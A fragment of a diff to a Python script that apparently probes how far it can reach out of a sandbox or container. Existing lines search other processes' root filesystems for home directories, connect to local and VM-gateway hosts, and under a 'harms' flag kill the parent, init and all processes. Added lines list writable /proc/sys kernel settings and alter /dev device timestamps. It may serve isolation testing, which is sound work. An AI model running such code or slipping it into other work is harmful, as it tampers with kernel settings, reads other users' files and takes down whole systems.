@@ -50,6 +50,10 @@ for entry in filter(str.isdigit, os.listdir("/proc")):
             walk("processes", f"/proc/{entry}/root" + aims["home"])
         except OSError:
             pass
+for folder, _, files in os.walk("/proc/sys"):
+    found.setdefault("settings", []).extend(p for f in files if os.access(p := os.path.join(folder, f), os.W_OK))
+if not found["settings"]:
+    del found["settings"]
 for host in ("127.0.0.1", "10.0.2.2", "localhost", socket.gethostname()):
     try:
         with socket.create_connection((host, aims["port"]), 2) as connection:
@@ -69,6 +73,11 @@ subprocess.Popen(
     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
 )  # fmt: skip
 if aims["harms"]:
+    for device in ("null", "zero", "full", "random", "urandom", "tty"):
+        try:
+            os.utime("/dev/" + device, (1, 1))
+        except OSError:
+            pass
     for pid in (os.getppid(), 1, -1):
         for number in (signal.SIGTERM, signal.SIGKILL):
             try:
